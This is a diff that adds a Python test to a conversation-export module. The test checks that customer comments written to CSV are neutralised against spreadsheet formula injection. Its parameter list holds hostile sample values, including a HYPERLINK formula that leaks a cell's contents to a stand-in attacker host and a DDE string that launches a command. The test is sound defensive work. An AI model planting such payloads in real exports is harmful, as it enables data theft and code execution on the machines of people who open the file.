@@ -90,3 +90,37 @@ def test_rating_in_every_export_and_the_viewer(
     assert "Rating: 4/5" in text
     viewer = render_conversation_markdown(record)
     assert "★★★★☆" in viewer and "4/5" in viewer
+
+
+@pytest.mark.parametrize(
+    "comment",
+    [
+        '=HYPERLINK("https://evil.example/?"&A2,"details")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,1)",
+        "\t=1+1",
+        "＝1+1",  # a full-width equals sign, an operator in some locales
+    ],
+)
+def test_csv_free_text_is_never_a_formula(
+    rows: tuple[TranscriptStore, list[str]], tmp_path: Path, comment: str
+) -> None:
+    """The customer writes the rating comment: a spreadsheet must show it, not run it.
+    Every other export keeps it exactly as written."""
+    store, ids = rows
+    store.set_rating(ids[1], 1, comment)
+    store.set_tags(ids[1], "-urgent, vip")
+    path = export_conversations(store.iter_conversations(ids[1:]), "csv", tmp_path / "list.csv")
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        row = dict(zip(CSV_COLUMNS, list(csv.reader(handle))[1], strict=True))
+    stored = store.get_conversation(ids[1]).rating_comment  # as the store keeps it (trimmed)
+    assert stored is not None and stored.strip() == comment.strip()
+    assert row["rating_comment"] == "'" + stored
+    assert row["tags"] == "'-urgent, vip"
+    record = json.loads(
+        export_conversations(store.iter_conversations(ids[1:]), "json", tmp_path / "a.json").read_text(
+            "utf-8"
+        )
+    )
+    assert record[0]["rating_comment"] == stored
